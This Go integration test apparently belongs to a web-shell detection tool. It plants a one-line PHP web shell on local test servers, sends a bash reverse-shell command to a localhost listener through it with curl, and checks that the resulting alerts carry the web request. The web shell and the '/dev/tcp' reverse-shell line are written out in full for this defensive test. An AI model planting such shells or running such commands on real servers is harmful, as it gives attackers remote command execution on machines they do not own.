//go:build linux

package tests

import (
	"bufio"
	"fmt"
	"net"
	"net/url"
	"os/exec"
	"strings"
	"sync"
	"testing"
	"time"
)

// A real reverse shell through a web shell on each server: bash connects
// back to a listener of the test, which types `id`, waits past the
// correlation's reorder window (30 s), types `whoami` and `exit`. The
// request is logged only when the shell exits. The alerts of the shell and
// of both commands, which ran before that, must carry the request.
func TestLiveReverseShell(t *testing.T) {
	fpm := liveReady(t)
	for _, s := range liveSites {
		plantShell(t, s, "rev", "<?php echo shell_exec($_GET['c']); ?>\n")
	}
	startServers(t, fpm)
	dir := t.TempDir()
	stop := startLiveBeat(t, dir, liveSitesInputs()+detectAll)

	var attacks, typed []liveAttack
	var wg sync.WaitGroup
	for _, s := range liveSites {
		ln, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			t.Fatal(err)
		}
		defer ln.Close()
		cmd := fmt.Sprintf("bash -c 'bash -i >& /dev/tcp/127.0.0.1/%d 0>&1'", ln.Addr().(*net.TCPAddr).Port)
		a := liveAttack{s, fmt.Sprintf("http://127.0.0.1:%d/uploads/rev.php?c=", s.port), cmd}
		attacks = append(attacks, a)
		typed = append(typed, liveAttack{s, a.url, "id"}, liveAttack{s, a.url, "whoami"})
		wg.Add(2)
		go func() {
			defer wg.Done()
			if out, err := exec.Command("curl", "-sS", "--max-time", "90", a.url+url.QueryEscape(cmd)).CombinedOutput(); err != nil {
				t.Errorf("curl %s: %v\n%s", a.url, err, out)
			}
		}()
		go func() {
			defer wg.Done()
			if err := driveReverseShell(ln, 35*time.Second); err != nil {
				t.Errorf("%s: reverse shell: %v", s.server, err)
			}
		}()
	}
	wg.Wait()
	all := append(attacks, typed...)
	docs := waitLinked(t, dir, all)
	for _, a := range unlinked(docs, all) {
		t.Errorf("%s: no alert of `%s` carries the request (webshell.request.url.original)", a.site.server, a.cmd)
	}
	stop()
}

// driveReverseShell accepts the shell's connection on ln, types id, waits
// until hold has passed since the connection, types whoami and exit, and
// checks that both commands answered.
func driveReverseShell(ln net.Listener, hold time.Duration) error {
	_ = ln.(*net.TCPListener).SetDeadline(time.Now().Add(30 * time.Second))
	conn, err := ln.Accept()
	if err != nil {
		return fmt.Errorf("no connection: %w", err)
	}
	defer conn.Close()
	start := time.Now()
	_ = conn.SetDeadline(start.Add(hold + 30*time.Second))
	out := make(chan string)
	go func() { // everything the shell writes, until it exits
		var b strings.Builder
		sc := bufio.NewScanner(conn)
		for sc.Scan() {
			b.WriteString(sc.Text() + "\n")
		}
		out <- b.String()
	}()
	if _, err := fmt.Fprintln(conn, "id"); err != nil {
		return err
	}
	time.Sleep(time.Until(start.Add(hold)))
	if _, err := fmt.Fprint(conn, "whoami\nexit\n"); err != nil {
		return err
	}
	got := <-out
	if !strings.Contains(got, "uid=") || !strings.Contains(got, "www-data") {
		return fmt.Errorf("the shell answered %q", got)
	}
	return nil
}
